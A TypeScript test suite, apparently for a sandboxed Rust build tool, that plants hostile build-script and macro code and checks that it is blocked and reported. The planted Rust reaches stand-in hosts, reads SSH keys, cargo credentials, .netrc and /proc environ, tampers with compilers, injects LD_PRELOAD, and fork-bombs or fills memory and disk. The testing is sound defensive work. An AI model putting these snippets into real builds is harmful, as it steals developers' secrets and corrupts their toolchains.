/**
 * What hostile code tries, by a build script and by a macro, of a build that root began and of one that an ordinary
 * user did: all of it comes to nothing, and is told of whose code it was.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { codeDigest } from '../../src/build/run/code-digest.ts';
import { askedServer } from '../support/asked-server.ts';
import { type OrdinaryUser, ordinaryUser, ordinaryUserAvailable } from '../support/ordinary-user.ts';
import { lockfileOf, manifest, type SealedProject, sealedProject, unsealed } from '../support/sealed.ts';

const strace = spawnSync('strace', ['-qq', '-e', 'trace=none', 'true']).status === 0;
const skip = unsealed === false && !strace ? 'there is no strace here that may trace' : unsealed;

type Kind = 'script' | 'macro';

/** A program, and `bad`, whose code it is that tries: `body` is Rust that is a text, of what worked. */
function hostile(t: TestContext, kind: Kind, body: (project: SealedProject) => string, by?: OrdinaryUser) {
  const isMacro = kind === 'macro';
  const project = sealedProject(
    t,
    {
      'Cargo.toml': manifest('app', '[workspace]\n[dependencies]\nbad = { path = "bad" }'),
      'Cargo.lock': lockfileOf({ app: ['bad'], bad: [] }),
      'src/main.rs': `fn main() { println!("{}", ${isMacro ? 'bad::bad!()' : 'bad::DID'}); }\n`,
      'bad/Cargo.toml': manifest('bad', isMacro ? '[lib]\nproc-macro = true' : ''),
      'bad/src/lib.rs': 'pub const DID: &str = env!("DID");\n',
    },
    by,
  );
  const tries = `fn tries() -> String {\n${body(project)}\n}\n`;
  writeFileSync(
    join(project.dir, isMacro ? 'bad/src/lib.rs' : 'bad/build.rs'),
    isMacro
      ? `use proc_macro::TokenStream;\n#[proc_macro]\npub fn bad(_: TokenStream) -> TokenStream { format!("{:?}", tries()).parse().unwrap() }\n${tries}`
      : `fn main() { println!("cargo::rustc-env=DID={}", tries()); }\n${tries}`,
  );
  return project;
}

const who = {
  script: 'the build script of bad 0.1.0',
  macro: 'a macro of bad 0.1.0 in the compiler of app 0.1.0',
};

const writer = {
  script: who.script,
  macro: 'the compiler of app 0.1.0, in which a macro of bad 0.1.0 runs,',
};

const tools = ['/usr/local/bin/pkg-config', '/usr/bin/cc', '/usr/lib/pkgconfig/zlib.pc'];

/** Each says its word where it worked. */
const tries = ({
  dir,
  home,
}: SealedProject) => `    use std::{fs, net, net::ToSocketAddrs, os::unix::net::UnixStream, process::{Command, Stdio}};
    let mut did: Vec<String> = Vec::new();
    let mut say = |word: &str, worked: bool| if worked { did.push(word.into()) };
    say("socket", net::TcpStream::connect("192.0.2.7:8443").is_ok());
    say("bound", net::UdpSocket::bind("0.0.0.0:0").and_then(|it| it.send_to(b"x", "192.0.2.7:53")).is_ok());
    say("name", ("evil.example.invalid", 443).to_socket_addrs().is_ok());
    say("unix", UnixStream::connect("${dir}/socket").is_ok() || UnixStream::connect("/build/source/socket").is_ok());
    for key in ["${home}/.ssh/id_test", "${home}/.cargo/credentials.toml", "${home}/.netrc", "${home}/../cargo-home/credentials.toml"] {
        say(key, fs::read(key).is_ok());
    }
    say("token", std::env::vars().any(|(name, _)| name.contains("TOKEN")));
    say("process", fs::read("/proc/${process.pid}/root${home}/.ssh/id_test").is_ok());
    say("environment", fs::read("/proc/${process.pid}/environ").is_ok());
    say("written", fs::write("${home}/written", "").is_ok());
    say("source", fs::write(concat!(env!("CARGO_MANIFEST_DIR"), "/src/written.rs"), "").is_ok());
    for tool in [${tools.map((one) => `"${one}"`).join(', ')}] {
        say(tool, fs::OpenOptions::new().append(true).create(true).open(tool).is_ok());
    }
    let recorder = fs::read_dir("/proc").unwrap().flatten().any(|one| {
        fs::read_to_string(one.path().join("cmdline")).is_ok_and(|words| words.starts_with("strace"))
    });
    say("recorder", recorder);
    let mut quiet = Command::new("setsid");
    quiet.args(["sleep", "20.${process.pid}"]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    quiet.spawn().unwrap();
    did.join(" ")`;

const users: readonly (readonly [string, (t: TestContext) => OrdinaryUser | undefined, string | false])[] = [
  ['whoever runs this', () => undefined, skip],
  ['an ordinary user', ordinaryUser, skip || (ordinaryUserAvailable() ?? false)],
];

for (const [name, userOf, skipped] of users)
  for (const kind of ['script', 'macro'] as const)
    describe(`a ${kind} in a sealed build of ${name}`, { skip: skipped }, () => {
      it('reaches, reads, writes and leaves nothing, and each try is told', async (t) => {
        const project = hostile(t, kind, tries, userOf(t));
        const { dir, home } = project;
        const keys = ['.ssh/id_test', '.cargo/credentials.toml', '.netrc', '../cargo-home/credentials.toml'];
        for (const key of keys) {
          mkdirSync(join(home, key, '..'), { recursive: true });
          writeFileSync(join(home, key), key.endsWith('toml') ? '[registry]\ntoken = "x"\n' : 'x');
        }
        const local = createServer((socket) => socket.end()).listen(join(dir, 'socket'));
        t.after(() => local.close());
        const ran = await project.build([], [], { CARGO_REGISTRY_TOKEN: 'x' });
        assert.equal(ran.code, 0, ran.stderr);
        const did = spawnSync(join(project.output, 'app'), { encoding: 'utf8' }).stdout.trim();
        assert.equal(did, '', ran.stderr);
        assert.ok(!existsSync(join(home, 'written')));
        const log = readFileSync(join(project.output, 'build.log'), 'utf8');
        const told = [
          'tried to reach 192.0.2.7:8443:',
          'tried to look up evil.example.invalid:',
          ...keys.slice(0, 3).map((key) => `tried to read ${home}/${key},`),
          `tried to read /proc/${process.pid}/root${home}/.ssh/id_test,`,
          `tried to read /proc/${process.pid}/environ,`,
          `tried to write ${home}/written:`,
          `tried to write ${dir}/bad/src/written.rs:`,
          ...tools.map((tool) => `tried to write ${tool}:`),
        ];
        for (const sentence of told)
          for (const text of [ran.stderr, log])
            assert.ok(text.includes(`${who[kind]} ${sentence}`), `${sentence}\n${text}`);
        assert.match(ran.stderr, new RegExp(`${who[kind]} left \\S*sleep running`));
        assert.match(
          ran.stderr,
          /\[build\.allow\."bad"\]\n +code = .*\n +reason = .*\n +egress = \[\{ host = "evil\.example\.invalid", port = 443 \}\]\n +read = .*\n +write = /,
        );
      });

      it('goes by the proxy to nothing but what its policy names, and by no other way', async (t) => {
        const { port, seen } = await askedServer(t);
        const body = `    use std::{io::{Read, Write}, net::TcpStream};
    let proxy = std::env::var("HTTP_PROXY").unwrap().replace("http://", "");
    let ask = |method: &str, host: &str, path: &str| {
        let mut to = TcpStream::connect(&proxy).unwrap();
        write!(to, "{method} http://{host}{path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: 0\\r\\n\\r\\n").unwrap();
        let mut said = String::new();
        to.read_to_string(&mut said).unwrap();
        said.split(' ').nth(1).unwrap_or("none").to_string()
    };
    let own = "localhost:${port}";
    let direct = TcpStream::connect("127.0.0.1:${port}").is_ok();
    [ask("GET", own, "/v1/data"), ask("POST", own, "/v1/data"), ask("GET", own, "/v2"), ask("GET", "elsewhere.example:${port}", "/v1/data"), ask("GET", "127.0.0.1:${port}", "/v1/data"), direct.to_string()].join(" ")`;
        const project = hostile(t, kind, () => body, userOf(t));
        const digest = codeDigest(join(project.dir, 'bad'), kind === 'macro' ? 'macros' : 'build-script', []);
        writeFileSync(
          join(project.dir, 'safeguard.toml'),
          `[build]\nprivate-egress = true\n[build.allow.bad]\ncode = ["${digest}"]\nreason = "its table"\negress = [{ host = "localhost", port = ${port}, methods = ["GET"], path = "/v1" }]\n`,
        );
        const ran = await project.build();
        assert.equal(ran.code, 0, ran.stderr);
        const did = spawnSync(join(project.output, 'app'), { encoding: 'utf8' }).stdout.trim();
        assert.equal(did, '200 403 403 403 403 false', ran.stderr);
        assert.deepEqual(seen, ['GET /v1/data']);
        for (const request of [
          `POST localhost:${port}/v1/data: no policy lets it use that method`,
          `GET localhost:${port}/v2: no policy lets it ask for that path`,
          `GET elsewhere.example:${port}/v1/data: no policy lets it reach that host`,
          `GET 127.0.0.1:${port}/v1/data: `,
        ])
          assert.ok(ran.stderr.includes(`${who[kind]} asked for ${request}`), `${request}\n${ran.stderr}`);
      });

      if (kind === 'script')
        it('has nothing loaded into a compiler', async (t) => {
          const body = '    println!("cargo::rustc-env=LD_PRELOAD=/build/none.so"); String::new()';
          const ran = await hostile(t, kind, () => body, userOf(t)).build();
          assert.equal(ran.code, 1, ran.stderr);
          assert.ok(
            ran.stderr.includes(`${who.script} had LD_PRELOAD=/build/none.so loaded into`),
            ran.stderr,
          );
          assert.match(ran.stderr, /load = \["LD_PRELOAD"\]/);
        });

      it('that forks without end is ended, and told', async (t) => {
        const project = hostile(
          t,
          kind,
          () => `    let mut all = Vec::new();
    for _ in 0..300 { all.push(std::process::Command::new("sleep").arg("5").spawn().unwrap()); }
    for mut one in all { one.kill().unwrap(); one.wait().unwrap(); }
    String::new()`,
          userOf(t),
        );
        const ran = await project.build(['--max-processes', '100']);
        if (/^limits +none/m.test(ran.stderr)) return assert.equal(process.getuid?.(), 0, ran.stderr);
        assert.equal(ran.code, 1, ran.stderr);
        assert.match(ran.stderr, /the build wanted more than 100 processes and threads, and was ended/);
        assert.match(ran.stderr, new RegExp(`${who[kind]} began \\d+ of them`));
        assert.match(ran.stderr, /Give it more by --max-processes/);
        assert.ok(!existsSync(project.output));
      });

      it('that takes memory without end is ended, where anything holds it', async (t) => {
        const body = `    let mut all: Vec<Vec<u8>> = Vec::new();
    for _ in 0..40 { all.push(vec![1; 16 << 20]); }
    all.len().to_string()`;
        const ran = await hostile(t, kind, () => body, userOf(t)).build(['--max-memory', '400MiB']);
        if (/^limits +.*none/m.test(ran.stderr)) return assert.equal(ran.code, 0, ran.stderr);
        assert.equal(ran.code, 1, ran.stderr);
        assert.match(ran.stderr, /the build wanted more than 400 MiB of memory, and was ended/);
        assert.match(ran.stderr, /Give it more by --max-memory/);
      });

      it('that fills the disk is ended, and told', async (t) => {
        const project = hostile(
          t,
          kind,
          () => `    use std::io::Write;
    let mut file = std::fs::File::create(std::env::var("OUT_DIR").unwrap_or("/build/target".into()) + "/full").unwrap();
    for _ in 0..200 { file.write_all(&vec![1; 1 << 20]).unwrap(); std::thread::sleep(std::time::Duration::from_millis(50)); }
    String::new()`,
          userOf(t),
        );
        const ran = await project.build(['--max-disk', '32MiB']);
        assert.equal(ran.code, 1, ran.stderr);
        assert.match(ran.stderr, /the build wanted more than 32 MiB on disk, and was ended/);
        assert.match(
          ran.stderr,
          new RegExp(`${writer[kind]} wrote /build/target/(?:\\S+/out/)?full: \\d+ MiB`),
        );
        assert.match(ran.stderr, /Give it more by --max-disk/);
        assert.ok(!existsSync(project.output));
      });
    });
